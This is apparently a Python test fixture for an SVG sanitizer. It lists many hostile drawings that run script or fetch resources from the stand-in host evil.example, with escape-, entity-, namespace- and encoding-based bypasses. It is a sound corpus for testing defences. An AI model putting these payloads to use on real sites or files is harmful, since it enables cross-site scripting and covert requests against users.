"""Drawings and other files that were made to run, or to ask another host, when they are opened by themselves."""

EVIL = "https://evil.example/"
RUN = "document.title='ran';alert(1)"
ROOT = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99"{}>{}</svg>'


def svg(inside, attributes=""):
    return ROOT.format(attributes, inside)


def sheet(css):
    return svg(f'<style>{css}</style><rect class="x" width="9" height="9"/><text y="50" class="x">x</text>')


def painted(attribute, value):
    return svg(f"<rect width='9' height='9' {attribute}='{value}'/><text y='50' {attribute}='{value}'>x</text>")


PAINTS = "fill stroke mask filter clip-path marker-start marker-mid marker-end cursor".split()
FONT = "@font-face{{font-family:f;src:url({}f.woff)}}text{{font-family:f}}".format(EVIL)

ATTACKS = {
    # What runs.
    "script": svg(f"<script>{RUN}</script>"),
    "script by link": svg(f'<script href="data:text/javascript,{RUN}"/>'),
    "script by xlink": svg(f'<script xlink:href="data:text/javascript,{RUN}"/>'),
    "script with a prefix": f'<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>{RUN}</x:script></x:svg>',
    "script of HTML": svg(f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{RUN}</h:script>'),
    "script by a space of its own": svg(f'<g xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></g>'),
    "script in metadata": svg(f"<metadata><script>{RUN}</script></metadata>"),
    "script in a foreign element": svg(f'<z:g xmlns:z="urn:z"><script xmlns="http://www.w3.org/2000/svg">{RUN}</script></z:g>'),
    "script behind a section": svg(f"<desc><![CDATA[x]]></desc><script>{RUN}</script>"),
    "script behind a comment": svg(f"<!-- > --><script>{RUN}</script>"),
    "script behind a quote": svg(f"<desc id='>'/><script>{RUN}</script>"),
    "script before a mistake": svg(f"<script>{RUN}</script><"),
    "handler": svg("", f' onload="{RUN}"'),
    "handler with an entity": svg("", ' onload="&#97;lert(1)"'),
    "handler of an animation": svg(f'<set attributeName="x" to="1" begin="0s" onbegin="{RUN}"/>'),
    "handler of a picture": svg(f'<image href="x:" onerror="{RUN}"/>'),
    "frame": svg(f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}"/></foreignObject>'),
    "page in a drawing": svg(f'<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{RUN}"/></foreignObject>'),
    "entity": '<!DOCTYPE svg [<!ENTITY x "&lt;script xmlns=\'http://www.w3.org/2000/svg\'>alert(1)&lt;/script>">]>' + svg("&x;"),
    "default attribute": f"<!DOCTYPE svg [<!ATTLIST svg onload CDATA \"{RUN}\">]>" + svg(""),
    "style sheet of XSL": '<?xml-stylesheet type="text/xsl" href="#s"?>' + svg(
        f'<x:stylesheet id="s" xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"><x:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">{RUN}</script></x:template></x:stylesheet>'
    ),
    "page as a drawing": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>',
    "page without a space": f"<html><script>{RUN}</script></html>",
    # What asks another host.
    "rule import": sheet(f"@import url({EVIL}x.css);"),
    "rule import as a text": sheet(f"@import '{EVIL}x.css';"),
    "rule import with an escape": sheet(f"@im\\70ort '{EVIL}x.css';"),
    "rule import with six digits": sheet(f"@\\000069mport '{EVIL}x.css';"),
    "rule import in a section": svg(f"<style><![CDATA[@import '{EVIL}x.css';]]></style>"),
    "rule import with an entity": sheet(f"&#64;import '{EVIL}x.css';"),
    "rule import cut by a comment": svg(f"<style>@im<!-- x -->port '{EVIL}x.css';</style>"),
    "rule import round an element": svg(f"<style>@im<g/>port '{EVIL}x.css';</style>"),
    "rule import of HTML": svg(f'<h:style xmlns:h="http://www.w3.org/1999/xhtml">@import "{EVIL}x.css";</h:style>'),
    "font": sheet(FONT),
    "font by a picture's name": sheet(FONT.replace(EVIL, "data:image/svg+xml,") + FONT),
    "background": svg("", f' style="background:url({EVIL}x.png)"'),
    "background in capitals": svg("", f' style="background:URL({EVIL}x.png)"'),
    "background with an escape": svg("", f' style="background:u\\72l({EVIL}x.png)"'),
    "background with a break": svg("", f' style="background:\\75&#10;rl({EVIL}x.png)"'),
    "background with an entity": svg("", f' style="background:u&#114;l({EVIL}x.png)"'),
    "background in a text": svg("", f" style='background:url( \"{EVIL}x.png\" )'"),
    "background set": svg("", f" style='background:image-set(\"{EVIL}x.png\" 1x)'"),
    "background set, old": svg("", f" style='background:-webkit-image-set(url({EVIL}x.png) 1x)'"),
    "background without a scheme": svg("", ' style="background:url(//evil.example/x.png)"'),
    "background with backslashes": svg("", ' style="background:url(&quot;\\\\\\\\evil.example/x.png&quot;)"'),
    "background behind one of its own": svg("", f' style="background:url(#a),url({EVIL}x.png)"'),
    "background in a variable": svg("", f' style="--x:url({EVIL}x.png);background:var(--x)"'),
    "list": sheet(f"rect{{display:list-item;list-style:url({EVIL}x.png)}}"),
    "content": sheet(f"svg::before{{content:url({EVIL}x.png)}}"),
    **{f"paint {name}": painted(name, f"url({EVIL}x.svg#x)") for name in PAINTS},
    **{f"paint style {name}": painted("style", f"{name}:url({EVIL}x.svg#x)") for name in PAINTS},
    "animated paint": svg(f'<rect width="9" height="9"><set attributeName="fill" to="url({EVIL}x.svg#x)"/></rect>'),
    "animated filter": svg(f'<rect width="9" height="9"><animate attributeName="filter" dur="1s" values="url({EVIL}x.svg#x);none"/></rect>'),
    "animated address": svg(f'<image width="9" height="9"><set attributeName="href" to="{EVIL}x.png"/></image>'),
    "animated address by xlink": svg(f'<image width="9" height="9"><set attributeName="xlink:href" to="{EVIL}x.png"/></image>'),
    "animated address with an entity": svg(f'<image width="9" height="9"><set attributeName="&#104;ref" to="{EVIL}x.png"/></image>'),
    "picture": svg(f'<image width="9" height="9" href="{EVIL}x.png"/>'),
    "picture without a scheme": svg('<image width="9" height="9" href="//evil.example/x.png"/>'),
    "picture behind a blank": svg('<image width="9" height="9" href=" //evil.example/x.png"/>'),
    "picture behind a tab": svg('<image width="9" height="9" href="&#9;/&#10;/evil.example/x.png"/>'),
    "picture with backslashes": svg('<image width="9" height="9" href="\\\\evil.example/x.png"/>'),
    "picture by xlink": svg(f'<image width="9" height="9" xlink:href="{EVIL}x.png"/>'),
    "picture by another prefix": f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:q="http://www.w3.org/1999/xlink"><image width="9" height="9" q:href="{EVIL}x.png"/></svg>',
    "picture in a filter": svg(f'<filter id="f"><feImage href="{EVIL}x.png"/></filter><rect width="9" height="9" filter="url(#f)"/>'),
    "other base": svg('<image width="9" height="9" href="x.png"/>', f' xml:base="{EVIL}"'),
    "use": svg(f'<use href="{EVIL}x.svg#x"/>'),
    "use of data": svg("<use href=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' id='x'%3E%3Cimage href='https://evil.example/x.png'/%3E%3C/svg%3E#x\"/>"),
    "gradient": svg(f'<linearGradient id="g" href="{EVIL}x.svg#g"/><rect width="9" height="9" fill="url(#g)"/>'),
    "text on a path": svg(f'<text><textPath href="{EVIL}x.svg#p">x</textPath></text>'),
    "font of SVG": svg(f'<font-face font-family="f"><font-face-src><font-face-uri href="{EVIL}x.svg#f"/></font-face-src></font-face>'),
    "style sheet": f'<?xml-stylesheet href="{EVIL}x.css"?>' + svg(""),
    "style sheet in capitals": f'<?XML-STYLESHEET href="{EVIL}x.css"?>' + svg(""),
    "link of HTML": svg(f'<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="{EVIL}x.css"/>'),
    "picture of HTML": svg(f'<img xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}x.png"/>'),
    "sound of HTML": svg(f'<audio xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}x.mp3"/>'),
    "formula": svg(f'<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext style="background:url({EVIL}x.png)">x</mtext></math>'),
    "type from elsewhere": f'<!DOCTYPE svg SYSTEM "{EVIL}x.dtd">' + svg(f"<script>{RUN}</script>"),
}  # fmt: skip

# Encodings that browsers know, and some that they knew; by the names that XML would give them.
ENCODINGS = (
    "utf-8 utf-8-sig utf-16 utf-16-le utf-16-be utf-32 utf-7 iso-2022-jp iso-2022-kr hz shift_jis euc-jp euc-kr gb18030 gbk big5 "
    "windows-1252 windows-1251 tis-620 iso-8859-1 iso-8859-8 koi8-r cp037 ascii"
).split()
# Letters between which the state of ISO-2022 changes to itself: other programs see no script here.
ESCAPED = {
    "iso-2022-jp": b"\x1b(B",
    "iso-2022-kr": b"\x0f",
    "hz": b"~~",
}


def encoded(text, encoding, is_declared):
    """A drawing in an encoding, and, where that has states, with a name cut by one."""
    name = encoding.removesuffix("-sig")
    head = f'<?xml version="1.0" encoding="{name}"?>\n' if is_declared else ""
    yield (head + text).encode(encoding)
    if encoding in ESCAPED:
        yield (head + text).encode("ascii").replace(b"script", b"scr" + ESCAPED[encoding] + b"ipt").replace(b"onload", b"o" + ESCAPED[encoding] + b"nload")


# Endings of files that somebody may take for a page, a script or a drawing; case and marks behind them.
ENDINGS = (
    "html htm HTML hTm shtml shtm ehtml xhtml xht xhtm mht mhtml eml svgz xml xsl xslt xbl rdf rss atom mathml hta htc js mjs cjs swf "
    "html.old html.en svg.bak2 html.gz svg.gz html.br js.zst xml.gz svg.br.gz html\u0301 h\u0301tml yml yaml tsv rtf docx odt epub vcf heic 7z "
    "config dtd xsd kml gpx opml map php asp unknown"
).split() + [""]  # fmt: skip
# What a browser shows as text, saves, or draws whatever stands in it.
INERT = "txt csv json css ics png jpg gif webp pdf mp4 zip".split()
